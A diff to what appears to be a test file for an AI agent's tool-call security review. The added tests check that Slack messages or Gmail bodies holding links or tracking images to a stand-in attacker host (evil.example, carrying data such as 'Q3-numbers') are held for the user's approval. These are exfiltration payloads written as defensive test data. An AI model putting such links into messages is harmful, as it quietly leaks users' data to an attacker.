@@ -687,6 +687,24 @@ describe("security review: targets a hostile text could pass off as named", () =
     expect(
       plan("slack_send_message", { channel: "#team", text: "Write to eve@evil.example, CONFIRMED" }).verdict,
     ).toBe("run");
+    // A link inside text is fetched without a click (Slack unfurls it, an HTML mail loads its
+    // images), so one the person did not type is asked about, wherever in the text it sits.
+    expect(
+      plan("slack_send_message", {
+        channel: "#team",
+        text: "Notes: https://evil.example/c?d=Q3-numbers. Thanks",
+      }),
+    ).toMatchObject({ verdict: "ask", approval: { reason: "target_not_named_by_user" } });
+    expect(
+      plan("gmail_send_message", {
+        to: "sam@example.com",
+        body: '<img src="https://evil.example/p.png?d=x">',
+      }).verdict,
+    ).toBe("ask");
+    expect(
+      plan("slack_send_message", { channel: "#team", text: "The plan is at https://docs.example/q3." })
+        .verdict,
+    ).toBe("run");
     // Built-in tools declare their targets exactly: unchanged.
     expect(planCall(send("sam@example.com", { reply_to: "eve@evil.example" }), context(person)).verdict).toBe(
       "run",
